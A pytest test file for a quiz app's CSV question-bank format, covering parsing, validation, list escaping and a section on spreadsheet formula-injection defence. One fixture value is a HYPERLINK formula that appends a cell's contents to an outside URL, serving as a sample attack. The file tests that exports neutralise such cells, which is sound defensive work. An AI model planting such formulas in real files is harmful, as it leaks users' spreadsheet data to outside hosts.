"""The CSV question bank format."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from quizapp.domain.formats import ImportFormatError, Problem
from quizapp.domain.formats.csv_format import emit, join_list, parse, split_list
from quizapp.domain.formats.spreadsheet import formula_safe_cell, text_of_cell
from quizapp.domain.questions import TRUE_FALSE_OPTIONS, BankTopic, QuestionDraft, QuestionType

HEADER = "id,topic,type,prompt,answer,accepted_answers,options,explanation,source,tags\n"

BRENA = QuestionDraft(
    id="q1",
    topic=BankTopic.LEADERS,
    type=QuestionType.MULTIPLE_CHOICE,
    prompt="Who led the Breña campaign?",
    answer="Andrés A. Cáceres",
    options=("Andrés A. Cáceres", "Miguel Iglesias", "Lizardo Montero"),
    source="caceres",
    tags=("breña",),
)
ANCON = QuestionDraft(
    id="q2",
    topic=BankTopic.DATES,
    type=QuestionType.DATE,
    prompt="When was the Treaty of Ancón signed?",
    answer="20 October 1883",
    source="treaty-of-ancon",
)

COLUMNS = "id,topic,type,prompt,answer,accepted_answers,options,explanation,source,tags,details,language"


def problems_of(text: str) -> list[Problem]:
    with pytest.raises(ImportFormatError) as caught:
        parse(text)
    return caught.value.problems


def test_parses_the_documented_example() -> None:
    text = (
        HEADER + "q1,leaders,multiple_choice,Who led the Breña campaign?,Andrés A. Cáceres,,"
        "Andrés A. Cáceres|Miguel Iglesias|Lizardo Montero,,caceres,breña\n"
        "q2,dates,date,When was the Treaty of Ancón signed?,20 October 1883,,,,treaty-of-ancon,\n"
    )
    assert parse(text) == [BRENA, ANCON]


def test_columns_in_any_order_and_case_optional_ones_may_be_missing() -> None:
    text = "Answer, PROMPT ,type,topic,id\r\nTRUE,Lima was occupied in 1881.,true_false,events,t1\r\n"
    assert parse(text) == [
        QuestionDraft(
            "t1",
            BankTopic.EVENTS,
            QuestionType.TRUE_FALSE,
            "Lima was occupied in 1881.",
            "True",
            options=TRUE_FALSE_OPTIONS,
        )
    ]


def test_normalizes_dates_and_spaces() -> None:
    text = HEADER + " q2 , dates ,DATE, When was the Treaty of Ancón signed? ,1883-10-20, , ,, treaty-of-ancon ,\n"
    assert parse(text) == [ANCON]


def test_header_problems() -> None:
    assert problems_of("id,topic,kind,prompt,prompt\nq1,dates,date,x,y\n") == [
        Problem(
            1,
            f"unknown column 'kind' (columns are: {COLUMNS})",
        ),
        Problem(1, "column 'prompt' appears twice in the header"),
        Problem(1, "missing column 'type' (required columns: id,topic,type,prompt,answer)"),
        Problem(1, "missing column 'answer' (required columns: id,topic,type,prompt,answer)"),
    ]


def test_unknown_column_is_reported_and_rows_still_checked() -> None:
    text = "id,topic,type,prompt,answer,notes\nq1,people,short_answer,Who led Breña?,,x\n"
    assert problems_of(text) == [
        Problem(
            1,
            f"unknown column 'notes' (columns are: {COLUMNS})",
        ),
        Problem(2, "answer is required"),
    ]


def test_empty_file() -> None:
    assert problems_of("") == [
        Problem(
            None,
            f"the file is empty; the first row must be the header: {COLUMNS}",
        )
    ]
    assert parse(HEADER) == []


def test_line_numbers_are_physical_lines_and_all_problems_are_collected() -> None:
    text = (
        HEADER  # line 1
        + 'q1,events,short_answer,"A prompt that\nspans two lines?",Lima,,,"and an\nexplanation\nof three",,\n'  # 2-5
        + "\n"  # 6, blank: skipped
        + "q2,???,short_answer,Who?,Lima,,,,,\n"  # 7
        + "q3,events,multiple_choice,Which city?,Lima,,Lima|lima,,,\n"  # 8
        + "q4,events,short_answer,Too few fields\n"  # 9
        + "q5,events,date,When did Lima fall?,January 1881,,,,,,,\n"  # 10: trailing empty fields are fine
    )
    assert problems_of(text) == [
        Problem(
            7,
            "topic '???' is not a topic slug: lowercase letters, digits and single hyphens, at most 40 characters",
        ),
        Problem(8, "options must be distinct (ignoring case, accents and punctuation)"),
        Problem(9, "expected 10 fields as in the header, found 4 (a field containing a comma must be quoted)"),
    ]


def test_broken_quoting_is_reported_with_its_line() -> None:
    text = HEADER + "q1,events,short_answer,Who?,Lima,,,,,\n" + 'q2,events,short_answer,"Who "really" led?,Lima,,,,,\n'
    [problem] = problems_of(text)
    assert problem.line == 3
    assert problem.message.startswith("not valid CSV:")


def test_unclosed_quote_at_end_of_file() -> None:
    [problem] = problems_of(HEADER + 'q1,events,short_answer,"Who led?,Lima,,,,,\n')
    assert problem.message.startswith("not valid CSV:")


def test_duplicates_name_the_first_line() -> None:
    text = HEADER + "q1,events,short_answer,Who led Breña?,Cáceres,,,,,\n" * 2
    assert problems_of(text) == [
        Problem(3, "duplicate id 'q1' (first used on line 2)"),
        Problem(3, "duplicate prompt (first asked on line 2)"),
    ]


@pytest.mark.parametrize(
    ("cell", "items"),
    [
        ("", []),
        ("a|b", ["a", "b"]),
        (" a | | b ", [" a ", " b "]),
        ("Lima \\| Callao|b", ["Lima | Callao", "b"]),
        ("back\\\\slash|c:\\dir", ["back\\slash", "c:\\dir"]),
        ("ends with \\", ["ends with \\"]),
        ("\\\\|x", ["\\", "x"]),
    ],
)
def test_split_list(cell: str, items: list[str]) -> None:
    assert split_list(cell) == items


def test_join_list_is_the_inverse() -> None:
    items = ["a|b", "back\\slash\\", "\\|", "plain"]
    assert join_list(items) == "a\\|b|back\\\\slash\\\\|\\\\\\||plain"
    assert split_list(join_list(items)) == items


def test_emit() -> None:
    tricky = QuestionDraft(
        id="q3",
        topic=BankTopic.PEOPLE,
        type=QuestionType.SHORT_ANSWER,
        prompt='Who said "no"?',
        answer="Cáceres",
        accepted_answers=("Andrés Cáceres", "A|C"),
        explanation="Line one,\nline two.",
    )
    assert emit([BRENA, tricky]) == (
        f"{COLUMNS}\r\n"
        "q1,leaders,multiple_choice,Who led the Breña campaign?,Andrés A. Cáceres,,"
        "Andrés A. Cáceres|Miguel Iglesias|Lizardo Montero,,caceres,breña,,en\r\n"
        'q3,people,short_answer,"Who said ""no""?",Cáceres,Andrés Cáceres|A\\|C,,"Line one,\nline two.",,,,en\r\n'
    )
    assert parse(emit([BRENA, tricky])) == [BRENA, tricky]


def test_a_row_spanning_lines_is_reported_on_its_first_line() -> None:
    text = (
        HEADER
        + 'q1,???,short_answer,"Who led\nthe Breña\ncampaign?",Cáceres,,,,,\nq2,???,short_answer,Who?,Lima,,,,,\n'
    )
    assert [problem.line for problem in problems_of(text)] == [2, 5]


# --- spreadsheet formulas ------------------------------------------------------------

FORMULAS = QuestionDraft(
    id="=q4",
    topic=BankTopic.LEADERS,
    type=QuestionType.MULTIPLE_CHOICE,
    prompt='=HYPERLINK("http://example.com/?"&A1,"Who led the Breña campaign?")',
    answer="+Cáceres",
    options=("+Cáceres", "-Iglesias", "@Montero", "'=Piérola", "'Twas Prado"),
    accepted_answers=("=1+1",),
    explanation="-2 and '-3",
    source="@caceres",
    tags=("=tag", "plain"),
)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_emitted_cells_never_start_a_formula() -> None:
    [header, row] = list(csv.reader(io.StringIO(emit([FORMULAS]), newline="")))
    assert row == [
        "'=q4",
        "leaders",
        "multiple_choice",
        '\'=HYPERLINK("http://example.com/?"&A1,"Who led the Breña campaign?")',
        "'+Cáceres",
        "'=1+1",
        "'+Cáceres|-Iglesias|@Montero|'=Piérola|'Twas Prado",
        "'-2 and '-3",
        "'@caceres",
        "'=tag|plain",
        "",
        "en",
    ]
    assert not [cell for cell in header + row if cell.startswith(FORMULA_START)]


def test_what_the_export_wrote_imports_back_unchanged() -> None:
    assert parse(emit([FORMULAS])) == [FORMULAS]


def test_a_leading_apostrophe_is_taken_off_only_before_a_formula_character() -> None:
    text = HEADER + "q1,people,short_answer,'=Who led Breña?,'Cáceres,''=Andrés|'-A. C.,,'@x,'Twas,\n"
    [draft] = parse(text)
    assert (draft.prompt, draft.answer, draft.accepted_answers, draft.explanation, draft.source) == (
        "=Who led Breña?",
        "'Cáceres",
        ("'=Andrés", "'-A. C."),  # a cell, not each item of it, is what a spreadsheet runs
        "@x",
        "'Twas",
    )


@given(st.text())
def test_a_safe_cell_gives_back_its_text_and_never_starts_a_formula(text: str) -> None:
    cell = formula_safe_cell(text)
    assert text_of_cell(cell) == text
    assert not cell.startswith(FORMULA_START)
